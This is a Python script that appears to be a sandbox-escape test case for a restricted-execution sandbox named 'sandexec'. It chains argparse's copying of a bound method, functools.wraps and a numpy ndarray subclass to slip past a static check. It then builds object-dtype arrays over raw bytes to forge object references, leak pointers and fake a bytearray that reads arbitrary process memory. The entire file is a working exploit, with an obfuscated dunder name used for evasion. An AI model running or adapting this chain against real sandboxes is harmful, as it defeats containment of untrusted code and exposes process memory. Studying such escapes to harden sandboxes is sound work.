# source: CPython Objects/classobject.c method_reduce (bound method copies as getattr(obj, func.__name__)); Lib/argparse.py _copy_items; numpy ndarray.__new__(shape, dtype, buffer) accepting an object dtype over a bytearray (sandexec README, "The static check",: "np.ndarray((1,), object, b)[0] is any address")
# family: copy.copy of a renamed bound method = getattr by run-time name -> the script's ndarray subclass handed back as a value -> array over bytes the script wrote
# goal: forges an object from an address, leaks object-array pointers, and reads process memory through a fake bytearray
import argparse, functools
import numpy as np
s = chr(95) * 2 + "class" + chr(95) * 2
ns = argparse.Namespace(__name__=s)


class A(np.ndarray):
    @functools.wraps(ns)
    def m(self):
        return 1

    @classmethod
    def append(cls, v):
        return None


c = np.zeros(2).view(A)
q = argparse.ArgumentParser()
q.add_argument("--x", action="append", default=c.m)
K = q.parse_args(["--x", "1"]).x
print("class:", K)

# 1. an object's address read back as the object
class Target:
    pass


t = Target()
t.secret = "forged reference works"
addr = int(repr(t).split(" at ")[1][:-1], 16)
buf = bytearray(addr.to_bytes(8, "little"))
forged = K((1,), object, buf)[0]
print("forged is t:", forged is t, forged.secret)

# 2. pointers of an object array read as integers
holder = np.array([t], dtype=object)
leak = K((1,), np.uint64, holder)
print("pointer leak equals address:", int(leak[0]) == addr)

# 3. a fake bytearray over any address: read the process's memory
ba_type = int(K((1,), np.uint64, np.array([bytearray], dtype=object))[0])
target_addr = addr
n = 48
fake = bytearray()
for v in (1 << 40, ba_type, n, n + 1, target_addr, target_addr, 0):
    fake += v.to_bytes(8, "little")
fake = bytes(fake)
fake_addr = int(K((1,), np.uint64, np.array([fake], dtype=object))[0]) + 32
fb = K((1,), object, bytearray(fake_addr.to_bytes(8, "little")))[0]
print(type(fb), "memory at", hex(target_addr), ":", bytes(fb[:48]).hex())
